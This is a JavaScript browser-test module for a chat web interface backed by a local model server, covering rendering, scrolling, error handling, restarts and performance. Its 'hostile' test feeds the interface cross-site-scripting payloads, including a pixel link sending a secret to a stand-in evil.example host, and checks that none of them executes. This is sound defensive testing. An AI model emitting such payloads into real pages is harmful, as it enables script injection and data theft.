// Adverse conditions: hostile model output, servers that fail in every way, long texts.
import { check, until } from "./browser.mjs";
import { behind, freePort, serve, model as file, pageOf, play } from "./serving.mjs";
import { accessible, ask, fits, look, openPage } from "./web_page.mjs";

const entry = { id: "demo", object: "model", status: { value: "loaded", bytes: 1, requests: 0 }, meta: { n_vocab: 10, n_ctx_train: 512, n_embd: 8, n_params: 1000, size: 1000 } };
export const chunk = (content, finish = null) => ({ choices: [{ index: 0, delta: content === null ? {} : { content }, logprobs: null, finish_reason: finish }] });
export const usage = (n) => ({ choices: [], usage: { prompt_tokens: 5, completion_tokens: n }, timings: { predicted_per_second: 500 } });

// Responses of all routes except chat.
export function usual(path) {
    if (path.startsWith("/v1/models")) return { body: { object: "list", data: [entry] } };
    if (path === "/health") return { body: { status: "ok" } };
    if (path.startsWith("/props")) return { body: { default_generation_settings: { n_ctx: 512 } } };
    if (path.startsWith("/v1/machine")) return { body: { build: "0", time: Date.now() / 1000, began: 0, machine: null, limits: null, models: [] } };
    if (path.startsWith("/v1/trace/paths")) return { body: { layers: [] } };
    return { status: 501, body: { error: { message: "off", type: "not_supported_error" } } };
}

export async function played(of, handle, work, options = {}) {
    const stage = await play(await pageOf(of.server.url), handle);
    const { page, close } = await openPage(of.browser, stage.url, { width: of.width, height: of.width < 800 ? 844 : 860, where: of.where, ...options });
    try { await work(page, stage); } finally { await close(); await stage.close().catch(() => undefined); }
}

const nasty = [
    "<script>window.hurt = 1</script>", "<img src=x onerror=\"window.hurt = 1\">", "<svg onload=window.hurt=1>", "<iframe src=//evil.example></iframe>", "<style>body{display:none}</style>",
    "[link](javascript:window.hurt=1) [data](data:text/html,<script>window.hurt=1</script>) [ok](https://example.org/?q=1)", "![pixel](https://evil.example/p.png?secret)",
    "<a href='javascript:window.hurt=1'>x</a> <form action=//evil.example><input name=q></form> <base href=//evil.example>", "<div style='position:fixed;inset:0;background:red'>over</div>",
    "```html\n<script>window.hurt = 1</script>\n```", "`<b>`", "| a | <img src=x onerror=window.hurt=1> |\n|---|---|\n| 1 | 2 |", "$\\href{javascript:window.hurt=1}{x} \\style{position:fixed}{y}$ and $x^2$",
    "\u202Eright to left override\u202C and \u2066isolate", "nul \u0000 bell \u0007 escape \u001b[31m", "שלום עולם, this is mixed عربي", `${"a".repeat(30000)}`, `${"<".repeat(2000)}`, "- [x] done\n- [ ] open\n",
    "&lt;script&gt; &#x3c;script&#x3e; <!-- comment --> <![CDATA[ x ]]> <?php x ?>", "[a]: javascript:window.hurt=1\n\n[a]", "**注意：**正文 and **“引用”**后", "| first<br>second |\n|---|\n| `<br>` |", "זה קוד `x = 1`:\n\nEnglish again\n\n```\nשלום = 1\n```", `\`\`\`java\n${"a".repeat(9000)}\n\`\`\``, `\`\`\`csharp\n${"a\n".repeat(1500)}\`\`\``, `${" ".repeat(60000)}x`, `${"a.".repeat(30000)}@`, `${">".repeat(2000)} deep`, `|${"a|".repeat(300)}\n|${"-|".repeat(300)}\n|${"b|".repeat(300)}`,
    "*_".repeat(2000), "- > ".repeat(900), "# Title\n\n###### six\n\n> quote\n\n---\n\n1. one\n2. two",
];

async function hostile(of) {
    const events = [...nasty.flatMap((x) => { const s = `${x}\n\n`; return s.length > 100 ? [chunk(s)] : [...s].reduce((out, c, i) => { if (i % 3) out[out.length - 1] += c; else out.push(c); return out; }, []).map((c) => chunk(c)); }),
        chunk(null, "stop"), usage(100), "[DONE]"];
    await played(of, (path) => path === "/v1/chat/completions" ? { events } : usual(path), async (page) => {
        await ask(page, "<img src=x onerror='window.hurt=1'> \u202E");
        for (const x of ["<script>window.hurt = 1</script>", "U+202E", "␛", "␀", "<!-- comment -->", "two"])
            await until(async () => (await page.locator(".markdown").textContent()).includes(x), `${of.where}: ${x} is not shown as what it is`);
        const bad = await page.evaluate(() => {
            const root = document.querySelector(".markdown");
            return [...root.querySelectorAll("script,img,iframe,style,form,base,svg,object,embed,link,meta")].map((e) => e.outerHTML)
                .concat([...root.querySelectorAll("a")].filter((a) => !/^(https?|mailto):/.test(a.getAttribute("href"))).map((a) => a.outerHTML))
                .concat([...root.querySelectorAll("*")].filter((e) => [...e.attributes].some((x) => x.name.startsWith("on"))).map((e) => e.outerHTML));
        });
        check(!bad.length, `${of.where}: ${bad.slice(0, 3)}`);
        const links = await page.locator(".markdown a").evaluateAll((all) => all.map((a) => [a.href, a.target, a.rel]));
        check(links.length >= 2 && links.every(([, target, rel]) => target === "_blank" && rel.includes("noopener") && rel.includes("noreferrer")), `${of.where}: links: ${JSON.stringify(links)}`);
        await until(async () => await page.locator(".markdown math").count() >= 1 && await page.locator(".markdown table").count() === 3 && await page.locator(".markdown .code").count() === 4, async () => `${of.where}: ${await page.evaluate(() => ["math", "table", ".code"].map((x) => document.querySelectorAll(`.markdown ${x}`).length))} formulas, tables, code blocks`);
        check((await page.locator(".markdown strong").allTextContents()).join() === "注意：,“引用”", `${of.where}: bold beside Chinese: ${await page.locator(".markdown strong").allTextContents()}`);
        check(await page.locator(".markdown th br").count() === 1 && await page.locator(".markdown td br").count() === 0, `${of.where}: <br> in cells`);
        const sides = await page.evaluate(() => [...document.querySelectorAll(".markdown p, .markdown pre")].filter((e) => /קוד|English again|שלום =/.test(e.textContent)).map((e) => {
            const range = document.createRange();
            range.selectNodeContents(e);
            const text = [...range.getClientRects()].map((r) => r.right), box = e.getBoundingClientRect();
            return Math.max(...text) > box.right - 12 ? "right" : "left";
        }));
        check(sides.join() === "right,left,left", `${of.where}: sides of paragraphs and code: ${sides}`);
        check(await page.evaluate(() => getComputedStyle(document.body).display !== "none"), `${of.where}: a style was taken`);
        await fits(page, of.where);
        await accessible(page, of.where);
        await look(page, of.where, "hostile");
        check(await page.evaluate(() => window.hurt === undefined), `${of.where}: what the model wrote was run`);
    });
}

// A sent message comes into view, wherever the reader is; the end stays in view while it grows, also after the page is loaded again. The Enter
// that ends a composition sends nothing.
async function reading(of) {
    const lines = (n) => Array.from({ length: n }, (_, i) => `${i}. ${"word ".repeat(60)}\n\n`).join("");
    await played(of, (path) => path === "/v1/chat/completions" ? { events: [chunk(lines(120)), 300, chunk(lines(20)), 300, chunk(lines(20)), chunk(null, "stop"), usage(9), "[DONE]"] } : usual(path), async (page) => {
        const left = () => page.locator(".messages").evaluate((l) => l.scrollHeight - l.scrollTop - l.clientHeight), box = page.locator(".composer textarea"), confirm = (e) => e.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", keyCode: 229, bubbles: true, cancelable: true }));
        await box.fill("あ");
        await box.evaluate(confirm);
        check(await page.locator(".message").count() === 0 && await box.inputValue() === "あ", `${of.where}: Enter of a composition sends`);
        await ask(page, "first");
        await until(async () => await left() < 60, async () => `${of.where}: the end is ${await left()} away`);
        await page.locator(".messages").evaluate((l) => { l.scrollTop = 0; });
        await page.waitForSelector(".message.user");
        await page.waitForTimeout(100);
        check(await left() > 1000, `${of.where}: does not stay where the reader is`);
        await ask(page, "second");
        await until(async () => await left() < 60, async () => `${of.where}: after sending the end is ${await left()} away`);
        await page.reload();
        await page.waitForFunction(() => document.querySelectorAll(".message .stats").length === 2);
        await until(async () => await left() < 60, async () => `${of.where}: after loading again the end is ${await left()} away`);
        await ask(page, "third");
        await until(async () => await left() < 60, async () => `${of.where}: after loading again it is not followed: ${await left()}`);
        await page.keyboard.press("Alt+Digit3");
        const prompt = page.locator(".ask textarea");
        await prompt.fill("い");
        await prompt.evaluate(confirm);
        check(await page.locator(".compare-column .coloured, .compare-column .notice").count() === 0, `${of.where}: Enter of a composition compares`);
    });
}

// Behind a proxy at another path, the page requests everything below its own address.
async function prefix(of) {
    const proxy = await behind(of.server.url, "/llm");
    const { page, close } = await openPage(of.browser, proxy.url, { width: of.width, height: 844, where: of.where });
    try {
        await ask(page, "What is water made of?");
        await until(async () => await page.locator(".message .notice").count() === 0 && (await page.locator(".message.assistant .markdown").innerText()).length > 3, `${of.where}: no answer`);
        await page.keyboard.press("Alt+Digit2");
        await page.waitForSelector(".drawing svg");
    } finally { await close(); await proxy.close(); }
}

const fault = (status, error, headers) => ({ status, body: { error: { type: "x", code: null, param: null, ...error } }, headers });

async function failures(of) {
    let mode = "ok";
    let show;
    const shown = new Promise((done) => { show = done; });
    const modes = {
        gone: [() => null, /does not answer/], loading: [() => fault(503, { message: "Loading model" }), /loading the model/], draining: [() => fault(503, { message: "the server is shutting down" }), /shutting down/],
        busy: [() => fault(429, { message: "too many requests wait already" }), /Too many requests/], context: [() => fault(400, { message: "900 tokens", code: "context_length_exceeded" }), /no longer fits/],
        model: [() => fault(404, { message: "no model", param: "model" }), /does not have this model/], memory: [() => fault(507, { message: "needs 9 GB of 1" }), /does not fit the memory/],
        traces: [() => fault(429, { message: "2 requests are traced, which is as many as may", param: "trace" }), /As many answers are being traced/],
        forbidden: [() => fault(403, { message: "this server allows no interventions", param: "intervene" }), /allows no interventions/],
        refused: [() => fault(400, { message: "above 2", param: "temperature" }), /does not accept/], server: [() => fault(500, { message: "broken" }), /went wrong/],
        broken: [() => ({ events: [chunk("half an ans"), shown, null] }), /broke before the answer/], error: [() => ({ events: [chunk("half"), { error: { message: "engine failed", type: "server_error" } }] }), /went wrong/],
        key: [() => fault(401, { message: "an API key is required" }), /requires an API key/],
    };
    const handle = (path) => {
        if (path === "/v1/chat/completions") return mode === "ok" ? { events: [chunk("fine"), chunk(null, "stop"), usage(1), "[DONE]"] } : modes[mode][0]();
        return usual(path);
    };
    await played(of, handle, async (page) => {
        for (const [name, [, sentence]] of Object.entries(modes)) {
            mode = name;
            if (!await page.locator(".empty").count()) {               // else a new chat is open already
                await page.keyboard.press("Alt+KeyN");
                await page.waitForSelector(".empty");
            }
            await page.fill(".composer textarea", `question ${name}`);
            await page.press(".composer textarea", "Enter");
            if (name === "broken") {
                await page.waitForFunction(() => document.querySelector(".message.assistant .markdown")?.textContent.startsWith("half"));
                show();
            }
            const said = () => page.locator(".message .notice.bad").innerText();
            await until(async () => sentence.test(await said()), async () => `${of.where}: ${name}: ${await said()}`);
            await until(async () => (await page.locator(".message.user .said").innerText()) === `question ${name}`, `${of.where}: ${name}: what was typed is lost`);
            if (name === "broken" || name === "error") await until(async () => (await page.locator(".message.assistant .markdown").innerText()).startsWith("half"), `${of.where}: ${name}: what had come is lost`);
            if (name === "key") {
                await page.waitForSelector("dialog input[type=password]");
                await page.fill("dialog input[type=password]", "k");
                await page.getByRole("button", { name: "Use", exact: true }).click();
                await page.waitForSelector("dialog", { state: "detached" });
            }
            if (name === "context") {
                await page.getByRole("button", { name: "Continue in a new chat" }).click();
                await until(async () => await page.inputValue(".composer textarea") === "question context", `${of.where}: the question is not taken along`);
                continue;
            }
            mode = "ok";
            await page.locator(".message .notice").getByRole("button", { name: "Try again" }).click();
            await until(() => page.evaluate(() => document.querySelector(".message.assistant .markdown")?.textContent.trim() === "fine"), `${of.where}: ${name}: another try has no answer`);
            await until(async () => await page.locator(".message .notice").count() === 0, `${of.where}: ${name}: the sentence stays`);
        }
    }, { quiet: true });
}

// The real server with a key, then stopped and restarted while the page is open.
async function restart(of) {
    const port = await freePort(), flags = [file, "--port", String(port), "--parallel", "2", "-c", "512", "--temp", "0", "--api-key", "sesame"];
    let server = await serve(...flags);
    const { page, close } = await openPage(of.browser, server.url, { width: of.width, height: 844, where: of.where, quiet: true });
    try {
        await page.waitForSelector("dialog input[type=password]");
        await look(page, of.where, "key");
        await page.fill("dialog input[type=password]", "sesame");
        await page.getByRole("button", { name: "Use", exact: true }).click();
        await page.waitForSelector("dialog", { state: "detached" });
        await ask(page, "What is water?");
        await page.fill(".composer textarea", "still here");
        await server.close();
        await page.press(".composer textarea", "Enter");
        await page.waitForSelector(".message .notice.bad");
        await page.waitForSelector(".trouble .notice");
        await look(page, of.where, "gone");
        server = await serve(...flags);
        await page.waitForSelector(".trouble", { state: "detached" });
        await page.locator(".message .notice").getByRole("button", { name: "Try again" }).click();
        await page.waitForFunction(() => document.querySelectorAll(".message .stats").length === 2);
        await until(async () => (await page.locator(".message.user .said").last().innerText()) === "still here", `${of.where}: what was typed`);
    } finally { await close(); await server.close(); }
}

// 500 tokens per second into a conversation that already has 20,000, and into an answer that does, as Markdown and as tokens coloured by
// surprise. Logged: times between frames, which a busy machine lengthens, and the longest task of the page by processor time.
async function long(of) {
    for (const coloured of [false, true]) await longChat(of, coloured);
}

const tasks = (trace) => {
    const { traceEvents: all } = JSON.parse(trace), main = new Set(all.filter((e) => e.name === "thread_name" && e.args.name === "CrRendererMain").map((e) => `${e.pid} ${e.tid}`));
    return all.filter((e) => e.ph === "X" && e.name.endsWith("RunTask") && main.has(`${e.pid} ${e.tid}`)).map((e) => (e.tdur ?? 0) / 1000);
};

async function longChat(of, coloured) {
    const words = "the quick brown fox jumps over a lazy dog and then goes home to rest".split(" "), text = (n) => Array.from({ length: n }, (_, i) => i % 40 === 39 ? ".\n\n" : i % 97 === 96 ? " `code`" : `${i % 40 ? " " : ""}${words[(i * 7) % words.length]}`);
    const choice = (token, i) => ({ id: i % words.length, token, logprob: -((i * 7) % 90) / 10 });
    const piece = (all, from) => ({ ...chunk(all.join("")), ...(coloured ? { choices: [{ ...chunk(all.join("")).choices[0],
        logprobs: { content: all.map((x, i) => ({ ...choice(x, from + i), top_logprobs: words.slice(0, 8).map((w, k) => choice(w, k)) })) } }] } : {}) });
    const once = (n) => Array.from({ length: n / 1000 }, (_, k) => piece(text(n).slice(k * 1000, k * 1000 + 1000), k * 1000));
    const written = (n) => Array.from({ length: n / 15 }, (_, k) => [...text(n).slice(k * 15, k * 15 + 15).map((w, i) => piece([w], k * 15 + i)), 30]).flat();
    const end = (n) => [chunk(null, "stop"), usage(n), "[DONE]"];
    let n = 0, go;
    const started = new Promise((done) => { go = done; });
    const answers = [() => [...once(20000), ...end(20000)], () => [...written(1500), ...end(1500)], () => [...once(20000), started, ...written(1500), ...end(21500)]];
    const where = `${of.where}${coloured ? ", coloured" : ""}`;
    await played(of, (path) => path === "/v1/chat/completions" ? { events: answers[n++]() } : usual(path), async (page) => {
        await page.evaluate(() => {
            window.frames_ = [];
            let last = performance.now();
            const tick = (t) => { window.frames_.push(t - last); last = t; requestAnimationFrame(tick); };
            requestAnimationFrame(tick);
        });
        const body = coloured ? ".coloured" : ".markdown", list = page.locator(".messages");
        const trace = () => of.browser.startTracing(page, { categories: ["toplevel", "__metadata"] });
        const frames = async () => {
            const all = await page.evaluate(() => window.frames_.splice(0).sort((a, b) => b - a)), task = Math.max(...tasks(String(await of.browser.stopTracing())));
            await trace();
            return `${all.length} frames, longest ${all[0].toFixed(0)} ms, above 50 ms: ${all.filter((x) => x > 50).length}, longest task ${task.toFixed(0)} ms`;
        };
        await trace();
        const length = () => page.evaluate((body) => [...document.querySelectorAll(`.message.assistant ${body}`)].pop()?.textContent.length ?? 0, body);
        const scroll = async () => {
            await list.evaluate(async (e) => { for (let y = e.scrollHeight; y > 0; y -= 600) { e.scrollTop = y; await new Promise((r) => requestAnimationFrame(r)); } });
            return frames();
        };
        const whole = text(20000).join("").length * 0.9;
        if (coloured) await page.getByRole("switch", { name: "Surprise" }).click();
        await ask(page, "long");
        await until(async () => await length() > whole, `${where}: the text is not there`);
        const opening = await frames();
        await until(async () => await page.evaluate(() => { const l = document.querySelector(".messages"); return l.scrollHeight - l.scrollTop - l.clientHeight < 60; }), `${where}: the end is out of sight`);
        await ask(page, "more");
        const writing = await frames(), scrolled = await scroll();
        await until(async () => await length() > 6000, `${where}: the text is not whole`);
        await page.fill(".composer textarea", "one long answer");
        await page.press(".composer textarea", "Enter");
        await until(async () => await length() > whole, `${where}: the long answer is not there`);
        await page.waitForTimeout(1000);
        await frames();
        go();
        await page.waitForFunction(() => document.querySelectorAll(".message .stats").length === 3);
        const growing = await frames(), across = await scroll();
        await of.browser.stopTracing();
        for (const [what, of] of Object.entries({ "20,000 tokens at once": opening, "another answer written": writing, scrolled, "an answer of 20,000 written on": growing, "scrolled across it": across }))
            console.log(`  ${where}: ${what}: ${of}`);
    });
}

// With the processor throttled fourfold: measure when the user can type, and check that no library of messages, formulas or curves is
// loaded before that.
async function start(of) {
    const times = [];
    for (let i = 0; i < 5; i++)
        await played(of, (path) => path === "/v1/chat/completions" ? { events: [chunk("half is $\\frac12$"), chunk(null, "stop"), usage(4), "[DONE]"] } : usual(path), async (page, stage) => {
            const cdp = await page.context().newCDPSession(page);
            await cdp.send("Emulation.setCPUThrottlingRate", { rate: 4 });
            await page.addInitScript(() => {
                new MutationObserver((_, o) => {
                    if (!document.querySelector(".composer textarea")) return;
                    window.ready_ = { at: performance.now(), later: Object.keys(window.laminaLater ?? {}) };
                    o.disconnect();
                }).observe(document, { childList: true, subtree: true });
            });
            await page.goto("about:blank");
            await page.goto(`${stage.url}/`);
            await page.waitForFunction(() => window.ready_);
            const ready = await page.evaluate(() => window.ready_);
            times.push(ready.at);
            check(ready.later.length === 0, `${of.where}: ${ready.later} is read before it is asked for`);
            if (i) return;
            await cdp.send("Emulation.setCPUThrottlingRate", { rate: 1 });
            await page.waitForFunction(() => window.laminaLater?.text);
            await until(async () => await page.evaluate(() => !window.laminaLater.formulas && !window.laminaLater.curves), `${of.where}: what no message needs is read`);
            await ask(page, "half");
            await until(async () => await page.locator(".markdown math").count() === 1 && await page.evaluate(() => Boolean(window.laminaLater.formulas)), `${of.where}: a formula`);
        });
    times.sort((a, b) => a - b);
    console.log(`  ${of.where}: ready after ${times.map((x) => x.toFixed(0)).join(", ")} ms, throttled 4 times`);
}

export const flows = { hostile, reading, prefix, failures, restart, long, start };
